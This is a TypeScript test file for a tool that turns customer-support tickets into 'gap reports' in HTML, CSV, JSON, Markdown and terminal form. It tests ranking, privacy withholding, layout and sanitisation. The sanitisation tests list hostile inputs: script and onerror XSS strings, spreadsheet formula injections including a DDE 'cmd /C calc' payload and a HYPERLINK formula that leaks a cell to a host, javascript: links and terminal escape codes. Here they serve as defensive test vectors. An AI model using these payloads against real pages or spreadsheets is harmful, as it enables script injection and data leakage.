import { readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { parse as parseHtml } from 'node-html-parser'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { visit } from 'unist-util-visit'
import { describe, expect, test } from 'vitest'
import { z } from 'zod'
import { csvCell } from '#core/csv.ts'
import { csvReport } from '#scripts/report/csv.ts'
import { gapReportSchema } from '#scripts/report/gap-report.schema.ts'
import { headline } from '#scripts/report/gap-report.ts'
import { onPaper } from '#scripts/report/html/filters.ts'
import { htmlReport } from '#scripts/report/html/page.ts'
import { jsonReport } from '#scripts/report/json.ts'
import { markdownReport, safe } from '#scripts/report/markdown.ts'
import { opener } from '#scripts/report/opener.ts'
import { terminalReport } from '#scripts/report/terminal.ts'
import { articlesFrom } from '#scripts/report/write.ts'
import { gap, largeReport, report } from './example-report.ts'

const markdown = (made: ReturnType<typeof report>) =>
  markdownReport(made, {
    articles: 'content/articles/',
    files: new Map([['en/cards/top-up', 'en/cards/top-up.md']]),
  })

const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</style><script>',
  '&lt;',
  "'--><svg/onload=x>",
  '\u0000\u001b[31m',
  '\ud800',
]

describe('the gap report', () => {
  test('draws the line where half of the questions are above it', () => {
    const volumes = [400, 300, 150, 100, 50]
    const made = report(volumes.map((volume, at) => gap(at + 1, { volume })))
    expect(made).toMatchObject({ open: 1000, line: 2 })
    expect(made.gaps.map(({ upTo }) => upTo)).toEqual([0.4, 0.7, 0.85, 0.95, 1])
    expect(headline(made)).toBe('Two answers would settle half of what is open')
  })

  test('leaves out what was dismissed and says what is being written', () => {
    const made = report([gap(1), gap(2), gap(3)], {
      states: new Map([
        ['g1', 'dismissed'],
        ['g3', 'drafted'],
      ]),
    })
    expect(made.gaps.map(({ id, rank, state }) => [id, rank, state])).toEqual([
      ['g2', 1, 'open'],
      ['g3', 2, 'drafted'],
    ])
    expect(made.open).toBe(200)
  })

  test('sets apart what is done, in words and out of every figure', () => {
    const made = report([gap(1, { volume: 50 }), gap(2), gap(3, { volume: 70 })], {
      states: new Map([
        ['g1', 'working'],
        ['g3', 'product'],
      ]),
    })
    expect(made.gaps.map(({ id }) => id)).toEqual(['g2'])
    expect(made.done.map(({ id, state }) => [id, state])).toEqual([
      ['g3', 'product'],
      ['g1', 'working'],
    ])
    expect(made.open).toBe(100)
    expect(parseHtml(htmlReport(made)).querySelector('#done')?.text).toMatch(/70.*Product.*50.*Working/s)
  })

  test('marks only a few as growing, and never on a handful of tickets', () => {
    const rising = Array.from({ length: 8 }, (_, at) => gap(at + 1, { trend: 2 + at }))
    const small = gap(9, { trend: 20, weeks: [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 4] })
    expect(
      report([...rising, small])
        .gaps.filter(({ fast }) => fast)
        .map(({ id }) => id),
    ).toEqual(['g4', 'g5', 'g6', 'g7', 'g8'])
  })

  test('names only segments whose interval is clear of 1×', () => {
    const page = parseHtml(htmlReport(report([gap(1)])))
    expect(page.querySelector('.who')?.text).toMatch(/Business 5.1×.*between 4.3× and 6.0×/)
    expect(page.querySelector('.who')?.text).not.toContain('student')
  })

  test('has nothing to say of nothing', () => {
    const made = report([])
    expect(headline(made)).toBe('Nothing that customers asked is missing')
    expect(htmlReport(made)).toContain('Of 1,000 questions')
    expect(csvReport(made).split('\r\n')).toHaveLength(2)
  })

  test('is the same to the byte for the same facts, whatever their order', () => {
    const gaps = [gap(1), gap(2), gap(3)]
    expect(htmlReport(report(gaps))).toBe(htmlReport(report(gaps.toReversed())))
    expect(jsonReport(report(gaps))).toBe(jsonReport(report(gaps.toReversed())))
  })
})

describe('the page', () => {
  test('runs nothing and loads nothing, whatever customers write', () => {
    for (const text of hostile) {
      const nearest = { article: text, locale: text, title: text, score: 0.3, passage: text, why: text }
      const samples = [{ ticket: text, text, language: text }]
      const evil = gap(1, {
        id: text,
        title: text,
        kind: text,
        keywords: [text],
        nearest,
        samples,
        languages: { [text]: 3 },
        channels: { [text]: 2 },
      })
      const html = htmlReport(
        report([{ ...evil, segments: [{ segment: text, lift: 2, low: 1.5, high: 3, tickets: 30 }] }], {
          name: text,
          segments: { [text]: text },
          categories: { [text]: text },
          matrix: [{ segment: text, category: text, locale: text, articles: 2, forThem: 1 }],
          changes: [{ what: 'merged', gap: text, of: [text] }],
          terms: [{ term: text, language: text, searches: 3, customers: 2, lastSeen: null }],
        }),
      )
      const page = parseHtml(html)
      expect(page.querySelectorAll('script, img, iframe, link, [onload], [onerror], [src], [style]')).toEqual(
        [],
      )
      expect(html).not.toMatch(/<script|<img|<svg\/onload|url\(|@import/i)
      expect(html.isWellFormed()).toBe(true)
    }
  })

  test('carries a policy that lets only its own style in', () => {
    const html = htmlReport(report([gap(1)]))
    expect(html).toMatch(/default-src 'none'; style-src 'sha256-[\w+/]{43}='/)
    expect(html).not.toContain('unsafe-inline')
  })

  test('tells each of five hundred gaps, the long tail in words, and stays light: under two megabytes', () => {
    const html = htmlReport(largeReport(500))
    expect(Buffer.byteLength(html)).toBeLessThan(2_000_000)
    const page = parseHtml(html)
    expect(page.querySelectorAll('.gaps tbody th[scope=row]')).toHaveLength(500)
    expect(page.querySelectorAll('section.gap')).toHaveLength(500)
    const last = page.getElementById('gap-g500')
    for (const part of [
      'In their words',
      'Nearest is “Ways to top up',
      'in the last four weeks',
      'Who asks more',
    ])
      expect(last?.text).toContain(part)
    expect(page.querySelector('#each')?.text).toMatch(
      /The first \d+ with charts, the others in words.+report\.json/,
    )
  })

  test('draws the questions of each gap as a bar of its own height, side by side', () => {
    const page = parseHtml(htmlReport(report([40, 10, 60].map((volume, at) => gap(at + 1, { volume })))))
    const [bars] = page.querySelectorAll('.pareto path')
    const tops = [...(bars?.getAttribute('d') ?? '').matchAll(/[ML]([\d.]+),([\d.]+)/g)].map(([, , y]) =>
      Number(y),
    )
    const base = Math.max(...tops)
    const [first, second] = [tops[0]!, tops[2]!].map((y) => base - y)
    expect(first! / second!).toBeCloseTo(4, 1)
  })

  test('of one gap and of two draws no curve', () => {
    for (const gaps of [[gap(1)], [gap(1), gap(2)]]) {
      const page = parseHtml(htmlReport(report(gaps)))
      expect(page.querySelector('.pareto')).toBeNull()
      expect(page.querySelectorAll('.filters')).toHaveLength(gaps.length - 1)
      for (const link of page.querySelectorAll('.ways a'))
        expect(page.getElementById(link.getAttribute('href')!.slice(1))).not.toBeNull()
    }
  })

  test('speaks of a trend only where there are enough questions for one', () => {
    const few = [0, 0, 0, 0, 0, 1, 0, 1, 0, 2, 0, 2]
    expect(htmlReport(report([gap(1, { weeks: few, trend: 2 })]))).toContain(
      'Too few to tell a trend: 4 in the',
    )
  })

  test('with nothing missing says why, and how to see what fewer ask', () => {
    expect(htmlReport(report([]))).toContain(
      'none that was asked 5 times by 3 people lacks an article. To see what fewer people ask: npm run mine',
    )
    expect(htmlReport(report([], { tickets: 0 }))).toContain('No questions have been read yet.')
  })

  test('says how many it does not tell beyond five hundred, and where they are', () => {
    const page = parseHtml(htmlReport(report(Array.from({ length: 501 }, (_, at) => gap(at + 1)))))
    expect(page.querySelectorAll('section.gap')).toHaveLength(500)
    expect(page.querySelector('#each')?.text).toContain(
      'The first 500 are told here; the list above has all 501.',
    )
    expect(page.querySelectorAll('.gaps tbody a')).toHaveLength(500)
  })

  test('withholds what fewer than ten of a segment asked, in every form', () => {
    const few = { segment: 'business', lift: 7.77, low: 6.66, high: 8.88, tickets: 9 }
    const made = report([gap(1, { segments: [few] })])
    expect(made.gaps[0]).toMatchObject({ segments: [], withheld: ['business'] })
    for (const write of [htmlReport, jsonReport, csvReport, markdown, terminalReport]) {
      // Without the drawn lines, whose coordinates are of the weeks.
      expect(write(made).replaceAll(/ d="[^"]*"/g, '')).not.toMatch(/7\.77|7\.8|6\.66|8\.88/)
    }
    const page = parseHtml(htmlReport(made))
    expect(page.querySelector('#gap-g1')?.text).toContain('Who asks cannot be shown')
    expect(page.querySelector('#gap-g1')?.text).toContain('Withheld: Business')
    expect(page.querySelector('#segments')?.text).toContain('could point at a person')
  })

  test('lets a reader choose by kind and by the segment that asks more, without a script', () => {
    const page = parseHtml(htmlReport(report([gap(1), gap(2, { kind: 'not for them', segments: [] })])))
    expect(page.querySelectorAll('.filters legend').map(({ text }) => text)).toEqual([
      'Kind of gap',
      'Asked more by',
    ])
    expect(page.querySelectorAll('.gaps tbody tr:not(.cut)').map((row) => row.getAttribute('class'))).toEqual(
      ['k0 s0', 'k1'],
    )
    expect(page.querySelector('style')?.text).toContain(
      'main:has(#s-0:checked) :is(.gaps tbody tr, .gap):not(.s0)',
    )
  })

  test('explains every column where it stands, and once more in text', () => {
    const page = parseHtml(htmlReport(report([gap(1)])))
    const buttons = page.querySelectorAll('.why')
    expect(buttons.length).toBeGreaterThan(4)
    for (const button of buttons) {
      const says = page.getElementById(button.getAttribute('popovertarget') ?? '')?.text
      expect(says).toBe(page.querySelectorAll('.terms dd').find((dd) => dd.text === says)?.text)
      expect(button.getAttribute('title')).toBeTruthy()
    }
  })

  test('explains every figure of a card on hover, and all of them once more in text', () => {
    const page = parseHtml(htmlReport(largeReport(60)))
    const style = page.querySelector('style')?.text ?? ''
    const named = page.querySelectorAll('[class^=w-]').map((word) => word.getAttribute('class')!.slice(2))
    expect(new Set(named).size).toBeGreaterThan(12)
    const text = page.querySelectorAll('.terms dd').map((dd) => dd.text)
    for (const name of new Set(named)) {
      const says = JSON.parse(new RegExp(`\\.w-${name}:hover::after { content: (".+") }`).exec(style)![1]!)
      expect(text).toContain(says)
    }
    // Each fact with a number of its own, in a card with charts and in one without.
    for (const id of ['gap-g1', 'gap-g60'])
      for (const label of page.querySelectorAll(`#${id} .facts dt`))
        expect(label.querySelector('[class^=w-]'), label.text).not.toBeNull()
  })

  test('takes to paper every line, the first dozen told, and says what is left out', () => {
    const page = parseHtml(htmlReport(largeReport(40)))
    expect(page.querySelector('.paper')?.text).toMatch(/every gap has its line, and the first 12 .+ are told/)
    expect(page.querySelector('style')?.text).toContain(`.gap:nth-child(n + ${onPaper + 1} of .gap)`)
    expect(parseHtml(htmlReport(largeReport(5))).querySelector('.paper')?.text).toContain('every gap is told')
  })

  test('says so when two choices leave nothing', () => {
    const made = report([gap(1), gap(2, { kind: 'not for them', segments: [] })])
    expect(parseHtml(htmlReport(made)).querySelector('style')?.text).toContain(
      'main:has(#k-1:checked):has(#s-0:checked) .none { display: block }',
    )
    expect(htmlReport(made)).not.toContain('main:has(#k-0:checked):has(#s-0:checked) .none')
  })

  test('marks in the list what merged, split or came back since the mining before', () => {
    const page = parseHtml(htmlReport(largeReport(5)))
    const notes = page.querySelectorAll('.gaps .became').map(({ text }) => text)
    expect(notes).toEqual([
      'Now also holds one earlier gap',
      'Part of it is a gap of its own now',
      'Split from an earlier gap',
      'Back after it was gone',
    ])
    expect(page.querySelector('#gap-g4')?.text).toContain('Back after it was gone.')
    expect(page.querySelector('.ways a[href="#changes"]')).not.toBeNull()
  })

  test('says of each picture the same in words', () => {
    const page = parseHtml(htmlReport(largeReport(40)))
    for (const part of ['segments', 'written']) {
      expect(page.querySelector(`#${part} svg`)?.getAttribute('aria-label')).toContain('table below')
      // Where there is no room for a picture, words are in its place.
      expect(page.querySelector(`#${part} .narrow`)?.text).toMatch(
        part === 'written' ? /0\/9/ : /Premium \d\.\d×/,
      )
      expect(page.querySelectorAll(`#${part} details tbody tr`).length).toBeGreaterThan(20)
    }
    expect(page.querySelector('#spread svg')?.getAttribute('aria-label')).toMatch(/\d+ of 40 gaps hold 50%/)
    expect(page.querySelector('#spread h2')?.text).toMatch(/\d+ of 40 gaps hold 5\d%/)
  })

  test('tells what became of earlier gaps and what is searched in vain', () => {
    const text = parseHtml(htmlReport(largeReport(5))).querySelector('main')?.text
    expect(text).toContain('now also holds gap g900')
    expect(text).toContain('gap g901 is now answered by cards/top-up')
    expect(text).toContain('çek')
  })

  test('has one heading of the first level, names for its pictures and a link for every gap', () => {
    const page = parseHtml(htmlReport(report([gap(1), gap(2)])))
    expect(page.querySelectorAll('h1')).toHaveLength(1)
    for (const svg of page.querySelectorAll('svg')) {
      expect(svg.getAttribute('aria-label') ?? svg.getAttribute('aria-hidden')).toBeTruthy()
    }
    for (const link of page.querySelectorAll('.gaps a')) {
      expect(page.getElementById(link.getAttribute('href')!.slice(1))).not.toBeNull()
    }
  })
})

describe('the table for spreadsheets', () => {
  test.each([
    ...[
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '\0=1',
      '＝1',
      '＠SUM(1)',
      '=cmd|" /C calc"!A0',
    ],
    '=HYPERLINK("http://x/?"&A1,"click")',
  ])('does not calculate %j', (text) => {
    expect(csvCell(text).startsWith(`"'`)).toBe(true)
  })

  test('quotes everything', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const inner = csvCell(text).slice(1, -1)
        expect(inner.replaceAll('""', '')).not.toContain('"')
      }),
    )
  })
})

test('the spreadsheet gives back what was written, whatever customers write', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme', maxLength: 40 }), (title) => {
      const [, row] = parse(csvReport(report([gap(1, { title })])), {}) as string[][]
      const back = row?.[4] ?? ''
      expect([title, `'${title}`]).toContain(back)
    }),
    { numRuns: 200 },
  )
})

describe('the JSON', () => {
  test('is described by the published schema', () => {
    const file = new URL('../../../scripts/report/gap-report.schema.json', import.meta.url)
    expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual(z.toJSONSchema(gapReportSchema))
  })

  test.each([
    ['five hundred gaps', largeReport(500)],
    ['none', report([])],
  ])('keeps to it with %s', (_, made) => {
    const written = JSON.parse(jsonReport(made))
    expect(gapReportSchema.parse(written)).toEqual(written)
    expect(gapReportSchema.safeParse({ ...written, more: 1 }).success).toBe(false)
  })
})

describe('the Markdown for a pull request', () => {
  const nodes = (markdown: string) => {
    const found: { type: string; url?: string }[] = []
    visit(unified().use(remarkParse).use(remarkGfm).parse(markdown), (node) => {
      found.push(node as { type: string; url?: string })
    })
    return found
  }
  const attacks = [
    ...hostile,
    ...[
      '[x](javascript:alert(1))',
      '![x](https://x.test/a.png)',
      '| a | b |',
      '`code`',
      '@everyone #1',
      '\n# Title',
    ],
    ...[
      'https://x.test www.x.test a@b.test',
      '<!-- ',
      '&lt;script&gt;',
      '\\',
      '~~x~~ **y** __z__',
      '[^1]',
      '---',
    ],
  ]

  test.each(attacks)('takes %j for words', (text) => {
    const found = nodes(`before ${safe(text)} after`)
    expect(found.map(({ type }) => type)).toEqual(['root', 'paragraph', 'text'])
  })

  test('has only the links and tables that are ours', () => {
    for (const text of attacks) {
      const nearest = { article: text, locale: 'en', title: text, score: 0.3, passage: text, why: text }
      const found = nodes(
        markdown(
          report([gap(1, { title: text, kind: text, nearest })], {
            name: text,
            segments: { business: text },
          }),
        ),
      )
      expect(
        found.filter(({ type }) => ['html', 'image', 'code', 'inlineCode', 'link'].includes(type)),
      ).toEqual([])
      expect(found.filter(({ type }) => type === 'table')).toHaveLength(2)
      expect(found.filter(({ type }) => type === 'tableRow')).toHaveLength(4)
      expect(found.filter(({ type }) => type === 'heading')).toHaveLength(1)
    }
  })

  test('is short and links the nearest articles', () => {
    const text = markdown(largeReport(500))
    expect(text.split('\n').length).toBeLessThan(40)
    expect(text).toContain('](content/articles/en/cards/top-up.md)')
    expect(text).toContain('The first 15 of 500 gaps.')
  })
})

test.each([
  ['/repo/reports', '/repo/content', '../content/articles/'],
  ['/repo', '/repo/content/acme', 'content/acme/articles/'],
  ['/repo/a', '/repo/our help (new)', '../our%20help%20%28new%29/articles/'],
  ['/repo', 'https://git.example/acme/help/blob/main', 'https://git.example/acme/help/blob/main/articles/'],
  ['/repo', 'https://git.example/acme/help/blob/main/', 'https://git.example/acme/help/blob/main/articles/'],
])('a link in Markdown leads from %s to the articles of %s', (folder, content, way) => {
  expect(articlesFrom(folder, content)).toBe(way)
})

test('the terminal table fits eighty columns, without colour', () => {
  for (const made of [largeReport(500), report([gap(1)]), report([])]) {
    const lines = terminalReport(made).split('\n')
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(80)
    expect(lines.join('')).not.toContain('\u001b')
  }
})

test('the page opens with what the system has, and not without a display', () => {
  expect(opener('darwin', {})).toEqual(['open'])
  expect(opener('win32', {})).toEqual(['explorer.exe'])
  expect(opener('linux', { WAYLAND_DISPLAY: 'wayland-0' })).toEqual(['xdg-open'])
  expect(opener('linux', {})).toBeUndefined()
})

test('the terminal gets no control signs from customers', () => {
  expect(terminalReport(report([gap(1, { title: 'a\u001b[2Jb' })]))).not.toContain('\u001b')
})
